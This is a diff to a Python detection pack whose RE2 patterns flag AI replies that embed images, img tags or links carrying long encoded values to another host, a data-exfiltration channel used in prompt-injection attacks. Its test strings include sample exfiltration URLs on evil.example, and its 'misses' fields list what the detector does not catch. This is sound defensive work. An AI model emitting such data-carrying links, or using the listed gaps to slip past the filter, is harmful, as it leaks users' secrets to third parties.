@@ -7,24 +7,27 @@ import re
 from collections.abc import Iterator
 from typing import Final, NamedTuple
 
-from narrows.policy.packs.rule import Pack, PackRule, Side
+from narrows.policy.packs.rule import LINE, Pack, PackRule, Side
 
 _DATA: Final = r"[^\s)\x22'<>]"
+_BLANKS: Final = r"\s{0,64}"
 
 _IMAGE: Final = PackRule(
     id="image-with-data",
-    version=1,
+    version=2,
     side=Side.RESPONSE,
     roles=frozenset(),
     patterns=(
-        # RE2 repeats a class 1,000 times at most.
-        rf"!\[[^\]\n]{{0,300}}\]\(\s*<?(?i:https?:)?//[^\s)/?#]{{1,255}}[^\s)?#]{{0,500}}\?{_DATA}{{0,300}}=(?:{_DATA}|%20){{12}}",
-        r"!\[[^\]\n]{0,300}\]\(\s*<?(?i:https?:)?//[^\s)/?#]{1,255}/(?:[^\s)?#/]{0,100}/){0,8}[A-Za-z0-9_=%+-]{64}",
-        rf"(?i:<img\b[^>]{{0,300}}?\bsrc\s*=\s*)[\x22']?(?i:https?:)?//[^\s\x22'>?]{{1,600}}\?{_DATA}{{0,300}}=(?:{_DATA}|%20){{12}}",
-        r"(?m)^\[[^\]\n]{1,80}\]:\s*<?(?i:https?:)?//[^\s/?#>]{1,255}[^\s?#>]{0,500}\?[^\s>]{0,300}=[^\s>]{24}",
+        # RE2 repeats a class 1,000 times at most, and a reply is held back as long as any of these could still match.
+        rf"!\[[^\]\n]{{0,300}}\]\({_BLANKS}<?(?i:https?:)?//[^\s)/?#]{{1,255}}[^\s)?#]{{0,500}}\?{_DATA}{{0,300}}={_DATA}{{12}}",
+        rf"!\[[^\]\n]{{0,300}}\]\({_BLANKS}<?(?i:https?:)?//[^\s)/?#]{{1,255}}/(?:[^\s)?#/]{{0,100}}/){{0,8}}[A-Za-z0-9_=%+-]{{64}}",
+        # `[^\w>]` on both sides is what `\b` would be: boundaries within can't be held back.
+        rf"(?i:<img[^\w>](?:[^>]{{0,298}}[^\w>])?src{_BLANKS}={_BLANKS})[\x22']?(?i:https?:)?//[^\s\x22'>?]{{1,600}}\?{_DATA}{{0,300}}={_DATA}{{12}}",
+        rf"{LINE}\[[^\]\n]{{1,80}}\]:{_BLANKS}<?(?i:https?:)?//[^\s/?#>]{{1,255}}[^\s?#>]{{0,500}}\?[^\s>]{{0,300}}=[^\s>]{{24}}",
     ),
     purpose="A picture in a reply whose address holds a long value: shown in a chat, it sends the value to that host.",
-    misses="Short values over many pictures; data in host names; links that a person has to click.",
+    misses="Short values over many pictures; data in host names; links that a person has to click; labels over 300 "
+    "characters, addresses over 1,000, and more than 64 blanks before an address.",
     also_matches="Badges and signed pictures, and searches as reference links (`[label]: address`).",
     matches=(
         "![logo](https://evil.example/p.png?q=c2VjcmV0IGtleSBpcyBoZXJl)",
@@ -44,14 +47,15 @@ _IMAGE: Final = PackRule(
 )
 _LINK: Final = PackRule(
     id="link-with-data",
-    version=1,
+    version=2,
     side=Side.RESPONSE,
     roles=frozenset(),
     patterns=(
-        r"\[[^\]\n]{1,300}\]\(\s*<?(?i:https?:)//[^\s)/?#]{1,255}[^\s)?#]{0,500}\?[^\s)]{0,300}=[A-Za-z0-9+/_=%-]{64}",
+        rf"\[[^\]\n]{{1,300}}\]\({_BLANKS}<?(?i:https?:)//[^\s)/?#]{{1,255}}[^\s)?#]{{0,500}}\?[^\s)]{{0,300}}=[A-Za-z0-9+/_=%-]{{64}}",
     ),
     purpose="A link in a reply whose address holds a value of 64 characters and more.",
-    misses="Shorter values; addresses without a label.",
+    misses="Shorter values; addresses without a label; labels over 300 characters, addresses over 1,000, and more than "
+    "64 blanks before an address.",
     also_matches="Links with signatures, tracking codes or states of single sign-on.",
     matches=("[click here](https://evil.example/?d=" + "QUJD" * 16 + ")",),
     spares=(
@@ -62,7 +66,7 @@ _LINK: Final = PackRule(
 
 PACK: Final = Pack(
     name="reply-links",
-    version=1,
+    version=2,
     summary="Pictures and links in replies that carry data to another host",
     rules=(_IMAGE, _LINK),
 )
